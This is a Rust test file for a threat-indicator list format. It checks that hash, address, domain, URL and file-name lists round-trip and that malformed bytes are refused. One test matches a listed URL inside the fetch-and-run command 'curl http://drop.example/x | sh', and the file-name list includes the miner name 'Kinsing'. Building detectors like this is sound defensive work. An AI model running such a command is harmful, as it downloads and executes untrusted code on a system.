//! Owns: that a list says what its lines said, and that bytes which are none are refused.
//! Never: where lists travel.

use std::net::IpAddr;

use proptest::prelude::*;

use super::{ListError, ListKind, ListReader, ListWriter};
use crate::indicator::{Gathering, Indicators};

fn written(kind: ListKind, lines: &[&str]) -> (Vec<u8>, u64) {
    let mut writer = ListWriter::new(kind);
    for line in lines {
        writer.add(line).unwrap();
    }
    writer.finish()
}

fn gathered(lists: &[&[u8]]) -> Result<Indicators, ListError> {
    let mut gathering = Gathering::default();
    for list in lists {
        gathering.list(ListReader::new(*list)?)?;
    }
    Ok(gathering.finish())
}

#[test]
fn each_kind_is_found_again_as_if_it_stood_in_the_bundle() {
    let hash = "E3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
    let lists = [
        written(ListKind::Sha256, &[hash, &hash.to_lowercase()]),
        written(ListKind::Md5, &["d41d8cd98f00b204e9800998ecf8427e"]),
        written(ListKind::Addresses, &["203.0.113.9", "198.51.100.0/24", "2001:db8::/32"]),
        written(ListKind::Domains, &["Evil.example."]),
        written(ListKind::Urls, &["HTTP://Drop.example:80/x/"]),
        written(ListKind::FileNames, &["/tmp/.x", "Kinsing"]),
    ];
    assert_eq!(lists.iter().map(|(_, count)| *count).collect::<Vec<_>>(), [1, 1, 3, 1, 1, 2], "each once");
    let bytes: Vec<&[u8]> = lists.iter().map(|(bytes, _)| bytes.as_slice()).collect();
    let indicators = gathered(&bytes).unwrap();
    let ip = |text: &str| text.parse::<IpAddr>().unwrap();
    assert!(indicators.has_sha256(&hash.parse().unwrap()));
    assert!(indicators.has_address(ip("203.0.113.9")) && indicators.has_address(ip("198.51.100.7")));
    assert!(indicators.has_address(ip("2001:db8::1")) && !indicators.has_address(ip("203.0.113.10")));
    assert_eq!(indicators.listed_domain("a.b.evil.example").as_deref(), Some("evil.example"));
    assert!(indicators.listed_url("curl http://drop.example/x | sh").is_some());
    assert!(indicators.has_file_name("/tmp/.x") && indicators.has_file_name("/srv/Kinsing"));
}

#[test]
fn the_same_entries_give_the_same_bytes_in_whatever_order() {
    let one = written(ListKind::Domains, &["b.example", "a.example", "A.example"]);
    assert_eq!(one, written(ListKind::Domains, &["a.example", "b.example"]));
    assert_eq!(one.1, 2);
}

#[test]
fn a_malformed_line_says_why() {
    let mut writer = ListWriter::new(ListKind::Sha256);
    assert!(writer.add("abc").unwrap_err().contains("`abc`"));
    assert!(ListWriter::new(ListKind::Addresses).add("10.0.0.1/8").unwrap_err().contains("10.0.0.0/8"));
    for url in [
        "http://a.example:80:80/x",
        "http://a.example.:80./x",
        "http://a.example\u{ff0f}b/x",
        "http://a\0b/",
        "ftp://2\u{37a}n.example",
    ] {
        let added = ListWriter::new(ListKind::Urls).add(url);
        assert!(added.as_ref().is_err_and(|error| error.contains("is not a URL")), "{url}: {added:?}");
    }
    assert!(ListWriter::new(ListKind::FileNames).add(&"x".repeat(3000)).unwrap_err().contains("2048"));
}

#[test]
fn what_is_no_whole_list_is_refused() {
    let (list, _) = written(ListKind::Domains, &["a.example", "b.example"]);
    for cut in 0..list.len() {
        assert!(gathered(&[&list[..cut]]).is_err(), "{cut}");
    }
    assert!(matches!(gathered(&[&[&list[..], &[0]].concat()]), Err(ListError::NoList)), "a byte too many");
    let mut many = list.clone();
    many[6..14].copy_from_slice(&u64::MAX.to_le_bytes());
    assert!(matches!(gathered(&[&many]), Err(ListError::TooLong { .. })));
    let mut odd = list.clone();
    odd[16] = b'A';
    assert!(matches!(gathered(&[&odd]), Err(ListError::Entry { index: 1, .. })), "written otherwise than looked for");
    let mut other = list;
    other[5] = 9;
    assert!(matches!(gathered(&[&other]), Err(ListError::NoList)));
}

proptest! {
    #[test]
    fn hostile_bytes_never_panic(kind in 1u8..7, count in 0u64..40, rest in proptest::collection::vec(any::<u8>(), 0..400)) {
        let bytes = [b"PKIL\x01".as_slice(), &[kind], &count.to_le_bytes(), &rest].concat();
        let _ = gathered(&[&bytes]);
    }

    #[test]
    fn a_url_that_is_taken_is_read_and_found(text in "(HTTP|https|ftp)://[a-zA-Zü@:.80]{1,12}[/?#][a-z/?#.,;()]{0,12}") {
        let mut writer = ListWriter::new(ListKind::Urls);
        if writer.add(&text).is_ok() {
            let indicators = gathered(&[&writer.finish().0]).unwrap();
            let command = format!("curl '{text}'");
            prop_assert!(indicators.listed_url(&command).is_some());
        }
    }

    #[test]
    fn what_is_written_is_read(names in proptest::collection::btree_set("[a-z]{1,12}\\.(org|example)", 0..50)) {
        let lines: Vec<&str> = names.iter().map(String::as_str).collect();
        let (bytes, count) = written(ListKind::Domains, &lines);
        prop_assert_eq!(count, names.len() as u64);
        let indicators = gathered(&[&bytes]).unwrap();
        for name in &names {
            prop_assert_eq!(indicators.listed_domain(name), Some(name.clone()));
        }
    }
}
